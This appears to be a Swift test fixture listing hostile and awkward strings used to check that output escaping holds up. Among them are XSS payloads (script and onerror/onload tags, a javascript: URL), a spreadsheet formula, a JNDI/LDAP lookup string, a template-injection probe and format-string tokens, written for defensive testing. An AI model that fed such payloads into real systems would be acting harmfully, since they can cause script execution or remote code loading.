/// Text that people and programs really send, and that no output may stumble over.
enum HostileText {
    static let all: [String] = [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "' onmouseover='alert(1)",
        "</title></style></textarea><svg onload=alert(1)>",
        "&lt;already&amp;escaped;",
        "null\u{0}byte and bell\u{7} and escape\u{1B}[31m and delete\u{7F} and next line\u{85}",
        "line\r\nbreak\tand tab",
        "\u{202E}right to left override\u{202C} and \u{2066}isolate",
        "مساهم מתנדב",
        "👩🏽‍💻 family 👨‍👩‍👧‍👦 flag 🇪🇺",
        "e\u{301}\u{301}\u{301}\u{301} Z\u{335}\u{321}a\u{327}l\u{337}g\u{322}o",
        String(repeating: "very-long-without-a-break", count: 400),
        "=HYPERLINK(\"https://example.org\",\"click\")",
        "javascript:alert(1)",
        "${jndi:ldap://example.org/a} {{7*7}} %s %n %00",
        "]]>--><!--",
        "",
        " ",
    ]
}
